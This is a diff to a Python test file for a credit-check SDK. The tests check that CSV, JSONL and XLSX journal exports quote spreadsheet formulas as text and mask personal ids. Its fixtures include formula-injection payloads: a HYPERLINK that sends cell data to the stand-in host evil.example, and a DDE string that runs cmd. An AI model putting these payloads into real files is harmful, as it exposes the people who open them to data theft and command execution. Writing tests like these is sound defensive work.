@@ -28,6 +28,8 @@ from credit_check_sdk.testing import FakePlatform
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
 FORMULAS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "=2+2", "\t=1+1", " =1+1", "＝1+1"]
+#: Those a one-line text takes (an operator, a case id …); a reason may span lines.
+ONE_LINE = [f for f in FORMULAS if "\t" not in f]
 
 #: Personal numbers that are not valid ids: 17, 19, 20 digits, the old card, a letter typo.
 BAD_PERSONAL = [
@@ -146,14 +148,15 @@ def journal_dir(tmp_path: Path) -> Path:
     fake.add_entry(DEFAULTER, "black", "court_judgment_defaulter")
     with fake.checker(tmp_path) as checker:
         for i, formula in enumerate(FORMULAS):
+            one_line = formula if formula in ONE_LINE else "-" + formula.strip()
             matter = {"category": "bidding", "case_id": f"C-{i}"}
             d = checker.must_check(
                 DEFAULTER,
-                _matter(matter, code=formula),
-                operator=formula,
-                department=formula,
+                _matter(matter, code=one_line),
+                operator=one_line,
+                department=one_line,
             )
-            checker.record_action(d.check_id, "not_applied", reason=formula, operator=formula)
+            checker.record_action(d.check_id, "not_applied", reason=formula, operator=one_line)
         checker.must_check(PERSON, "bidding", operator=HYPERLINK)
     return tmp_path
 
@@ -173,8 +176,9 @@ def test_journal_export_csv_quotes_formulas_and_masks(
     written = out.read_text(encoding="utf-8-sig")
     cells = _csv_cells(written)
     _assert_csv_safe(cells)
-    for formula in FORMULAS:
+    for formula in ONE_LINE:
         assert cells.count("'" + formula) >= 4, formula  # operator, department, code, reason
+    assert "'\t=1+1" in cells  # a reason
     assert PERSON not in written
     assert PERSON_MASKED in cells
     capsys.readouterr()
@@ -195,7 +199,7 @@ def test_journal_export_jsonl_keeps_records_verbatim(
         for record in records:
             assert journal.get(record["id"]) == record
     operators = {r.get("operator") for r in records}
-    assert set(FORMULAS) <= operators
+    assert set(ONE_LINE) <= operators
 
 
 def test_report_xlsx_writes_formulas_as_text_and_masks(journal_dir: Path) -> None:
